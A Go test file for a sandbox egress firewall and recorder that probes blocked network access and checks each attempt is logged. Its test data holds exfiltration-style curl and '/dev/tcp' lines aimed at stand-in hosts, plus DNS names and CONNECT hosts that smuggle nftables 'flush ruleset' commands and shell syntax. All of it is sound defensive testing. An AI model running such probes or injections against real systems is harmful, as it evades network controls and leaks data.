package egress

import (
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"testing"

	"github.com/vigiles/action/pkg/evidence"
)

// buildQuery makes a DNS query for the given raw labels.
func buildQuery(id uint16, qtype uint16, labels ...[]byte) []byte {
	b := make([]byte, 12)
	binary.BigEndian.PutUint16(b[0:], id)
	binary.BigEndian.PutUint16(b[2:], 0x0100)
	binary.BigEndian.PutUint16(b[4:], 1)
	for _, l := range labels {
		b = append(b, byte(len(l)))
		b = append(b, l...)
	}
	b = append(b, 0)
	b = binary.BigEndian.AppendUint16(b, qtype)
	return binary.BigEndian.AppendUint16(b, 1)
}

// hostileLabels is a name with quotes, a newline, a backslash, a dot
// inside a label, nft and shell syntax, whose presentation form is over
// 300 characters.
func hostileLabels() [][]byte {
	return [][]byte{
		[]byte("a\"b'c\nd\\e.f;g{h}i$j`k"),
		[]byte(strings.Repeat("\"", 60)),
		[]byte(strings.Repeat("\n", 60)),
		[]byte("\" } ; flush ruleset ; add rule inet vigiles output accept #"),
		[]byte("example"), []byte("test"),
	}
}

func find(es []evidence.Egress, pred func(evidence.Egress) bool) (evidence.Egress, int, bool) {
	for i, e := range es {
		if pred(e) {
			return e, i, true
		}
	}
	return evidence.Egress{}, -1, false
}

func mustFind(t *testing.T, es []evidence.Egress, what string, pred func(evidence.Egress) bool) (evidence.Egress, int) {
	t.Helper()
	e, i, ok := find(es, pred)
	if !ok {
		js, _ := json.MarshalIndent(es, "", "  ")
		t.Fatalf("no egress entry for %s in:\n%s", what, js)
	}
	return e, i
}

func TestDenyRecordsEveryAttempt(t *testing.T) {
	needNamespaces(t)
	hostile := hex.EncodeToString(buildQuery(0x4242, 1, hostileLabels()...))
	probes := []string{
		"sh:curl -sS -m 5 'http://api.example.test/x?secret=1'",
		"sh:echo > /dev/tcp/203.0.113.7/443; echo > /dev/tcp/203.0.113.7/443",
		"sh:echo hello > /dev/udp/203.0.113.8/5353",
		"sh:curl -sS -g -m 5 'http://[2001:db8::7]:8080/'",
		"dns:" + hostile,
	}
	_, nodeErr := exec.LookPath("node")
	if nodeErr != nil && os.Getenv("CI") == "true" {
		t.Fatal("CI=true and this test needs node, whose fetch it probes")
	}
	if nodeErr == nil {
		probes = append(probes, `sh:node -e 'fetch("http://node.example.test/").then(()=>process.exit(0),()=>process.exit(3))'`)
	}
	res := runChild(t, "sandbox", childSpec{Policy: evidence.EgressPolicy{Mode: evidence.EgressDeny}, Probes: probes}, nil)
	if res.SetupErr != "" {
		t.Fatalf("setup: %s", res.SetupErr)
	}
	if res.FinishErr != "" {
		t.Fatalf("finish: %s", res.FinishErr)
	}
	if res.Egress == nil {
		t.Fatal("egress is null on a confined run")
	}
	if res.Dropped != nil {
		t.Errorf("dropped = %+v in deny mode, want null", res.Dropped)
	}
	if len(res.Env) != 0 {
		t.Errorf("deny mode env = %q, want none", res.Env)
	}
	for i, p := range res.Probes[:4] {
		if p.Code == 0 {
			t.Errorf("probe %d succeeded in deny mode: %s", i, p.Output)
		}
	}
	for _, e := range res.Egress {
		if e.Allowed || e.Packets != 0 || e.Bytes != 0 {
			t.Errorf("deny mode entry %+v allowed or counted", e)
		}
	}
	dns, iDNS := mustFind(t, res.Egress, "the name curl asked", func(e evidence.Egress) bool {
		return e.Via == evidence.ViaDNS && e.Host == "api.example.test"
	})
	if dns.Attempts < 1 {
		t.Errorf("dns attempts = %d", dns.Attempts)
	}
	tcp, iTCP := mustFind(t, res.Egress, "raw tcp 203.0.113.7:443", func(e evidence.Egress) bool {
		return e.Via == evidence.ViaConnect && e.IP == "203.0.113.7" && e.Port == 443 && e.Proto == "tcp"
	})
	if tcp.Attempts != 2 {
		t.Errorf("tcp attempts = %d, want 2 (deduplicated)", tcp.Attempts)
	}
	_, iUDP := mustFind(t, res.Egress, "raw udp 203.0.113.8:5353", func(e evidence.Egress) bool {
		return e.Via == evidence.ViaConnect && e.IP == "203.0.113.8" && e.Port == 5353 && e.Proto == "udp"
	})
	_, iV6 := mustFind(t, res.Egress, "ipv6 tcp [2001:db8::7]:8080", func(e evidence.Egress) bool {
		return e.Via == evidence.ViaConnect && e.IP == "2001:db8::7" && e.Port == 8080 && e.Proto == "tcp"
	})
	if !(iDNS < iTCP && iTCP < iUDP && iUDP < iV6) {
		t.Errorf("entries not ordered by first attempt: dns %d, tcp %d, udp %d, v6 %d", iDNS, iTCP, iUDP, iV6)
	}
	h, _ := mustFind(t, res.Egress, "the hostile name", func(e evidence.Egress) bool {
		return e.Via == evidence.ViaDNS && strings.HasSuffix(e.Host, ".example.test") && strings.Contains(e.Host, "flush")
	})
	if len(h.Host) < 300 {
		t.Errorf("hostile name recorded as %d characters, want the whole name (> 300)", len(h.Host))
	}
	for _, c := range h.Host {
		if c < 0x21 || c > 0x7e {
			t.Errorf("hostile name recorded with raw character %q: %q", c, h.Host)
			break
		}
	}
	checkJSONRoundTrip(t, res.Egress)
	if ans := res.Probes[4].Output; len(ans) < 8 || ans[:4] != "4242" || ans[7] != '3' {
		t.Errorf("hostile query answer %s, want id 4242 and NXDOMAIN", ans)
	}
	if strings.Contains(res.Ruleset, "flush") || strings.Contains(res.Ruleset, "example") {
		t.Errorf("a name reached the rule set:\n%s", res.Ruleset)
	}
	if nodeErr == nil {
		mustFind(t, res.Egress, "node fetch's name", func(e evidence.Egress) bool {
			return e.Via == evidence.ViaDNS && e.Host == "node.example.test"
		})
	}
}

// longQuestion is the labels of a name of 255 bytes on the wire, the
// longest a question holds; longQuestionName is its presentation form.
func longQuestion() [][]byte {
	var l [][]byte
	for range 3 {
		l = append(l, []byte(strings.Repeat("x", 63)))
	}
	return append(l, []byte(strings.Repeat("y", 48)), []byte("example"), []byte("test"))
}

var longQuestionName = strings.Repeat(strings.Repeat("x", 63)+".", 3) + strings.Repeat("y", 48) + ".example.test"

// TestDirectQuestionsAreNamed: a question put to a resolver other than
// the stub is refused and recorded as the datagram it is, and the name it
// asked is recorded beside it, read from the logged datagram: the longest
// name too, over IPv6. A question sent unicast to mDNS's port (5353) is
// named likewise, its detail saying mDNS asked; one sent to a port no
// name-resolution protocol uses (5300) is a connect entry alone.
func TestDirectQuestionsAreNamed(t *testing.T) {
	needNamespaces(t)
	probes := []string{
		"dnsto:203.0.113.9:53/" + hex.EncodeToString(buildQuery(1, 1, []byte("Leak"), []byte("example"), []byte("test"))),
		"dnsto:[2001:db8::35]:53/" + hex.EncodeToString(buildQuery(2, 28, longQuestion()...)),
		"dnsto:203.0.113.9:5353/" + hex.EncodeToString(buildQuery(3, 1, []byte("mdns"), []byte("example"), []byte("test"))),
		"dnsto:203.0.113.9:5300/" + hex.EncodeToString(buildQuery(4, 1, []byte("other-port"), []byte("example"), []byte("test"))),
	}
	res := runChild(t, "sandbox", childSpec{Policy: evidence.EgressPolicy{Mode: evidence.EgressDeny}, Probes: probes}, nil)
	if res.SetupErr != "" || res.FinishErr != "" {
		t.Fatalf("setup: %s; finish: %s", res.SetupErr, res.FinishErr)
	}
	for i, p := range res.Probes {
		if p.Code == 0 {
			t.Errorf("probe %d got an answer in deny mode: %s", i, p.Output)
		}
	}
	for _, c := range []struct{ ip, name string }{{"203.0.113.9", "leak.example.test"}, {"2001:db8::35", longQuestionName}} {
		mustFind(t, res.Egress, "the datagram to "+c.ip, func(e evidence.Egress) bool {
			return e.Via == evidence.ViaConnect && e.IP == c.ip && e.Port == 53 && e.Proto == "udp" && !e.Allowed && e.Attempts == 1
		})
		e, _ := mustFind(t, res.Egress, "the name asked of "+c.ip, func(e evidence.Egress) bool {
			return e.Via == evidence.ViaDNS && e.Host == c.name
		})
		if e.Allowed || e.IP != "" || !strings.Contains(e.Detail, "asked of "+c.ip+" port 53 directly") {
			t.Errorf("question to %s recorded as %+v", c.ip, e)
		}
	}
	e, _ := mustFind(t, res.Egress, "the name asked of port 5353", func(e evidence.Egress) bool {
		return e.Via == evidence.ViaDNS && e.Host == "mdns.example.test"
	})
	if want := "asked by multicast DNS (mDNS) of 203.0.113.9 port 5353, not of the sandbox's DNS stub"; e.Allowed || e.Detail != want {
		t.Errorf("question to port 5353 recorded as %+v, want not allowed, detail %q", e, want)
	}
	mustFind(t, res.Egress, "the datagram to port 5300", func(e evidence.Egress) bool {
		return e.Via == evidence.ViaConnect && e.IP == "203.0.113.9" && e.Port == 5300 && e.Proto == "udp" && !e.Allowed
	})
	if _, _, ok := find(res.Egress, func(e evidence.Egress) bool { return e.Host == "other-port.example.test" }); ok {
		t.Errorf("a datagram to port 5300 was read as a DNS question: %+v", res.Egress)
	}
	checkJSONRoundTrip(t, res.Egress)

	// A datagram that names its route carries the longest headers the
	// command can give it (a 2,040-byte IPv6 segment routing header, a
	// 40-byte IPv4 source route): its question is named all the same
	// (the review found it left unnamed behind 127 segments).
	t.Run("routed", func(t *testing.T) {
		dir := probeDir(t, map[string]string{"client.py": routedQuestionClient})
		q := hex.EncodeToString(buildQuery(4, 1, longQuestion()...))
		res := runDenied(t, "python3 "+dir+"/client.py "+q+" 203.0.113.9 2001:db8::35")
		defer dumpOnFailure(t, res)
		for _, ip := range []string{"2001:db8::53", "198.51.100.53"} {
			if _, ok := connectEntryFor(res.Egress, ip, 53, "udp"); !ok {
				t.Errorf("no connect entry for the routed datagram to %s", ip)
			}
			mustFind(t, res.Egress, "the routed question to "+ip, func(e evidence.Egress) bool {
				return e.Via == evidence.ViaDNS && e.Host == longQuestionName && strings.Contains(e.Detail, "asked of "+ip+" port 53 directly")
			})
		}
	})
	// A question in a SYN (TCP Fast Open without a cookie, which needs no
	// privilege): the name went out in the packet the wall logged, and
	// is named as a datagram's is. It was not: the wall logged 128 bytes
	// of a TCP segment and read questions from datagrams alone.
	t.Run("tcp fast open", func(t *testing.T) {
		dir := probeDir(t, map[string]string{"client.py": fastOpenQuestionClient})
		q := hex.EncodeToString(buildQuery(6, 1, longQuestion()...))
		res := runDenied(t, "python3 "+dir+"/client.py "+q+" 203.0.113.9 2001:db8::35")
		defer dumpOnFailure(t, res)
		if out := res.Probes[0].Output; !strings.Contains(out, "sent 2") {
			t.Fatalf("client: %s", out)
		}
		for _, ip := range []string{"203.0.113.9", "2001:db8::35"} {
			if _, ok := connectEntryFor(res.Egress, ip, 53, "tcp"); !ok {
				t.Errorf("no connect entry for the SYN to %s", ip)
			}
			mustFind(t, res.Egress, "the question in the SYN to "+ip, func(e evidence.Egress) bool {
				return e.Via == evidence.ViaDNS && e.Host == longQuestionName && strings.Contains(e.Detail, "asked of "+ip+" port 53 directly")
			})
		}
	})
	// A query of several questions, the longest names, past what the
	// log holds: those it names, and the rest counted in their detail.
	t.Run("more questions than the log holds", func(t *testing.T) {
		labels := longQuestion()
		q := buildQuery(5, 1, labels...)
		binary.BigEndian.PutUint16(q[4:], 3)
		q = append(q, buildQuery(0, 1, labels...)[12:]...)
		q = append(q, buildQuery(0, 1, []byte("third"), []byte("example"), []byte("test"))[12:]...)
		res := runChild(t, "sandbox", childSpec{Policy: evidence.EgressPolicy{Mode: evidence.EgressDeny},
			Probes: []string{"dnsto:203.0.113.9:53/" + hex.EncodeToString(q)}}, nil)
		if res.SetupErr != "" || res.FinishErr != "" {
			t.Fatalf("setup: %s; finish: %s", res.SetupErr, res.FinishErr)
		}
		e, _ := mustFind(t, res.Egress, "the first question", func(e evidence.Egress) bool {
			return e.Via == evidence.ViaDNS && e.Host == longQuestionName
		})
		if !strings.Contains(e.Detail, "counts 2 more question(s)") {
			t.Errorf("detail %q, want it to count the 2 questions the log did not hold", e.Detail)
		}
	})
}

// routedQuestionClient sends the DNS query argv[1] (hex) to port 53 with
// the longest IPv6 segment routing header (127 segments) and the longest
// IPv4 loose source route (9 hops), through test addresses.
const routedQuestionClient = `import socket, sys
IPV6_RTHDR = 57
q = bytes.fromhex(sys.argv[1])
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
segs = [bytes(16)] + [socket.inet_pton(socket.AF_INET6, "2001:db8::c%x" % i) for i in range(126)]
n = len(segs)
s.setsockopt(socket.IPPROTO_IPV6, IPV6_RTHDR, bytes([0, 2 * n, 4, n - 1, n - 1, 0, 0, 0]) + b"".join(segs))
for dst, sock in (("2001:db8::53", s),):
    try:
        sock.sendto(q, (dst, 53))
    except OSError as e:
        print(dst, type(e).__name__)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
route = b"".join(socket.inet_aton("198.51.100.%d" % (60 + i)) for i in range(9))
opt = bytes([131, 3 + len(route), 4]) + route
s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, opt + bytes(-len(opt) % 4))
try:
    s.sendto(q, ("198.51.100.53", 53))
except OSError as e:
    print("198.51.100.53", type(e).__name__)
`

// fastOpenQuestionClient sends the DNS query argv[1] (hex) over TCP to
// port 53 of each address after it, in the SYN (TCP_FASTOPEN_NO_COOKIE),
// and prints how many it sent.
const fastOpenQuestionClient = `import socket, sys
TCP_FASTOPEN_NO_COOKIE = 34
q = bytes.fromhex(sys.argv[1])
msg = len(q).to_bytes(2, "big") + q
sent = 0
for dst in sys.argv[2:]:
    s = socket.socket(socket.AF_INET6 if ":" in dst else socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(5)
    s.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_NO_COOKIE, 1)
    try:
        s.sendto(msg, socket.MSG_FASTOPEN, (dst, 53))
    except OSError as e:
        print(dst, type(e).__name__)
    sent += 1
    s.close()
print("sent", sent)
`

func checkJSONRoundTrip(t *testing.T, es []evidence.Egress) {
	t.Helper()
	b, err := json.Marshal(es)
	if err != nil {
		t.Fatal(err)
	}
	var back []evidence.Egress
	if err := json.Unmarshal(b, &back); err != nil {
		t.Fatal(err)
	}
	if len(back) != len(es) {
		t.Fatalf("json round trip lost entries")
	}
	for i := range es {
		if back[i] != es[i] {
			t.Errorf("json round trip changed %+v into %+v", es[i], back[i])
		}
	}
}

func TestRecordProxy(t *testing.T) {
	needNamespaces(t)
	longHost := strings.Repeat(`q"{;}`, 60) + ".example.test" // no single quote: it goes through bash
	probes := []string{
		"sh:curl -sS 'http://api.example.test/path/to?q=secret#frag'",
		"sh:curl -sS https://secure.example.test/",
		"sh:curl -sS -g 'https://[2001:db8::5]:8443/'",
		"sh:echo > /dev/tcp/203.0.113.9/80",
		`sh:exec 3<>/dev/tcp/127.0.0.1/${HTTP_PROXY##*:}; printf 'CONNECT ` + longHost + `:443 HTTP/1.1\r\n\r\n' >&3; cat <&3`,
		// A hook's own server on the sandbox's loopback is reached
		// directly, as without a proxy: no egress, nothing recorded.
		`sh:python3 -m http.server 18087 --bind 127.0.0.1 >/dev/null 2>&1 & for i in $(seq 100); do c=$(curl -s -o /dev/null -w '%{http_code}' http://127.0.0.1:18087/); [ "$c" = 200 ] && break; sleep 0.1; done; kill $!; echo "code=$c"`,
	}
	res := runChild(t, "sandbox", childSpec{Policy: evidence.EgressPolicy{Mode: evidence.EgressRecord}, Probes: probes}, nil)
	if res.SetupErr != "" {
		t.Fatalf("setup: %s", res.SetupErr)
	}
	if res.FinishErr != "" {
		t.Fatalf("finish: %s", res.FinishErr)
	}
	env := strings.Join(res.Env, "\n")
	for _, v := range []string{"HTTP_PROXY=http://127.0.0.1:", "HTTPS_PROXY=", "http_proxy=", "https_proxy=", "ALL_PROXY=", "NODE_USE_ENV_PROXY=1"} {
		if !strings.Contains(env, v) {
			t.Errorf("record env lacks %s: %q", v, res.Env)
		}
	}
	for i, p := range res.Probes[:3] {
		if p.Code == 0 && i == 0 {
			// curl exits 0 on a 403 without --fail; the body tells.
		}
		if !strings.Contains(p.Output, "blocked by vigiles") && i == 0 {
			t.Errorf("probe %d output lacks the block message: %s", i, p.Output)
		}
	}
	mustFind(t, res.Egress, "GET via proxy", func(e evidence.Egress) bool {
		return e.Via == evidence.ViaProxy && e.Host == "api.example.test" && e.Port == 80 && e.Detail == "GET /path/to" && !e.Allowed
	})
	mustFind(t, res.Egress, "CONNECT via proxy", func(e evidence.Egress) bool {
		return e.Via == evidence.ViaProxy && e.Host == "secure.example.test" && e.Port == 443 && e.Detail == "CONNECT"
	})
	mustFind(t, res.Egress, "CONNECT to an IPv6 literal", func(e evidence.Egress) bool {
		return e.Via == evidence.ViaProxy && e.IP == "2001:db8::5" && e.Port == 8443
	})
	mustFind(t, res.Egress, "a client ignoring the proxy", func(e evidence.Egress) bool {
		return e.Via == evidence.ViaConnect && e.IP == "203.0.113.9" && e.Port == 80 && e.Proto == "tcp"
	})
	h, _ := mustFind(t, res.Egress, "the hostile CONNECT", func(e evidence.Egress) bool {
		return e.Via == evidence.ViaProxy && strings.HasSuffix(e.Host, ".example.test") && strings.HasPrefix(e.Host, `q\034\123\059\125q`)
	})
	if len(h.Host) < 300 {
		t.Errorf("hostile host cut to %d characters", len(h.Host))
	}
	if !strings.Contains(res.Probes[4].Output, "403") {
		t.Errorf("hostile CONNECT answer: %q", res.Probes[4].Output)
	}
	if !strings.Contains(env, "NO_PROXY=localhost,127.0.0.1,::1") || !strings.Contains(res.Probes[5].Output, "code=200") {
		t.Errorf("the sandbox's own loopback server, through NO_PROXY %q: %q", res.Env, res.Probes[5].Output)
	}
	// The probe's polls before the server listened met nothing there:
	// those are loopback attempts (a host's service under Claude Code);
	// the connections it answered leave nothing.
	for _, e := range res.Egress {
		if (e.IP == "127.0.0.1" || e.Host == "127.0.0.1") && e.Via != evidence.ViaLoopback {
			t.Errorf("the sandbox's own loopback is recorded as egress: %+v", e)
		}
	}
	checkJSONRoundTrip(t, res.Egress)
}

// dnsBurst sends n questions for distinct names to the stub as fast as it
// can, then exits without waiting for answers.
func dnsBurst(n int) string {
	return `sh:python3 -c '
import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(` + strconv.Itoa(n) + `):
    name = b"".join(bytes([len(l)]) + l for l in (b"n%d" % i, b"burst", b"invalid")) + b"\x00"
    s.sendto(struct.pack(">HHHHHH", i & 0xffff, 0x100, 1, 0, 0, 0) + name + b"\x00\x01\x00\x01", ("127.0.0.1", 53))
'`
}

// TestDNSBurstIsRecordedOrReportedLost: every question a burst sends is
// recorded, or the record says questions were lost; it is never silently
// short. A burst of a few hundred is recorded whole.
func TestDNSBurstIsRecordedOrReportedLost(t *testing.T) {
	needNamespaces(t)
	for _, n := range []int{300, 5000} {
		res := runChild(t, "sandbox", childSpec{Policy: evidence.EgressPolicy{Mode: evidence.EgressDeny}, Probes: []string{dnsBurst(n)}}, nil)
		if res.SetupErr != "" {
			t.Fatalf("setup: %s", res.SetupErr)
		}
		got := 0
		for _, e := range res.Egress {
			if e.Via == evidence.ViaDNS && strings.HasSuffix(e.Host, ".burst.invalid") {
				got++
			}
		}
		lost := strings.Contains(res.FinishErr, "questions were lost")
		t.Logf("burst of %d: %d recorded, finish error %q", n, got, res.FinishErr)
		if got != n && !lost {
			t.Errorf("burst of %d: %d recorded and no loss reported", n, got)
		}
		if n == 300 && (got != n || res.FinishErr != "") {
			t.Errorf("a burst of 300 must be recorded whole: %d recorded, error %q", got, res.FinishErr)
		}
	}
}

// linkLocalClient connects (TCP) and sends (UDP) to fe80::1 port 443 with
// the scope of lo (index 1), and then of index 2, which the sandbox's
// namespace lacks, and says what each did. Then it sends a datagram to a
// remote address of each family naming the link to leave by in an
// IP_PKTINFO or IPV6_PKTINFO control message (which needs no privilege):
// index 1, and index 2.
const linkLocalClient = `import errno, socket, struct
for scope in (1, 2):
    for typ, name in ((socket.SOCK_STREAM, "tcp"), (socket.SOCK_DGRAM, "udp")):
        s = socket.socket(socket.AF_INET6, typ)
        s.settimeout(2)
        try:
            if typ == socket.SOCK_STREAM:
                s.connect(("fe80::1", 443 + scope, 0, scope))
            else:
                s.sendto(b"x", ("fe80::1", 443 + scope, 0, scope))
            print(name, scope, "sent")
        except OSError as e:
            print(name, scope, errno.errorcode.get(e.errno, e.errno))
for index in (1, 2):
    for fam, name, dst in ((socket.AF_INET, "pktinfo4", "192.0.2.61"), (socket.AF_INET6, "pktinfo6", "2001:db8::61")):
        s = socket.socket(fam, socket.SOCK_DGRAM)
        if fam == socket.AF_INET:
            cmsg = (socket.IPPROTO_IP, 8, struct.pack("=I4s4s", index, bytes(4), bytes(4)))  # IP_PKTINFO
            to = (dst, 443 + index)
        else:
            cmsg = (socket.IPPROTO_IPV6, socket.IPV6_PKTINFO, bytes(16) + struct.pack("=I", index))
            to = (dst, 443 + index, 0, 0)
        try:
            s.sendmsg([b"x"], [cmsg], 0, to)
            print(name, index, "sent")
        except OSError as e:
            print(name, index, errno.errorcode.get(e.errno, e.errno))
        s.close()
`

// TestLinkLocalScopes pins down which link-local attempts the record
// holds (docs/egress.md, Limits that remain): one scoped to lo, the
// sandbox's only link, is a packet the wall logs and refuses; one scoped
// to an interface the namespace lacks (the host's eth0 under Claude Code)
// fails in the kernel before any packet exists (ENETUNREACH), and no
// record can hold it. So does a datagram to a remote address whose
// IP_PKTINFO or IPV6_PKTINFO names such an interface (ENODEV), where under
// Claude Code it leaves by the host's eth0 as any datagram would; one
// naming lo is a packet the wall logs and refuses.
func TestLinkLocalScopes(t *testing.T) {
	dir := probeDir(t, map[string]string{"client.py": linkLocalClient})
	res := runDenied(t, "python3 "+dir+"/client.py")
	defer dumpOnFailure(t, res)
	out := res.Probes[0].Output
	for _, want := range []string{"tcp 1 ECONNREFUSED", "udp 1 EPERM", "tcp 2 ENETUNREACH", "udp 2 ENETUNREACH",
		"pktinfo4 1 EPERM", "pktinfo6 1 EPERM", "pktinfo4 2 ENODEV", "pktinfo6 2 ENODEV"} {
		if !strings.Contains(out, want) {
			t.Errorf("the probe did not say %q: %s", want, out)
		}
	}
	for _, proto := range []string{"tcp", "udp"} {
		if e, ok := connectEntryFor(res.Egress, "fe80::1", 444, proto); !ok || e.Allowed || e.Attempts != 1 {
			t.Errorf("%s to fe80::1%%lo: entry %+v (found %v), want one attempt, refused", proto, e, ok)
		}
		if e, ok := connectEntryFor(res.Egress, "fe80::1", 445, proto); ok {
			t.Errorf("%s to fe80::1%%2, which no packet carried, recorded: %+v", proto, e)
		}
	}
	for _, ip := range []string{"192.0.2.61", "2001:db8::61"} {
		if e, ok := connectEntryFor(res.Egress, ip, 444, "udp"); !ok || e.Allowed || e.Attempts != 1 {
			t.Errorf("udp to %s by lo's index: entry %+v (found %v), want one attempt, refused", ip, e, ok)
		}
		if e, ok := connectEntryFor(res.Egress, ip, 445, "udp"); ok {
			t.Errorf("udp to %s by index 2, which no packet carried, recorded: %+v", ip, e)
		}
	}
}
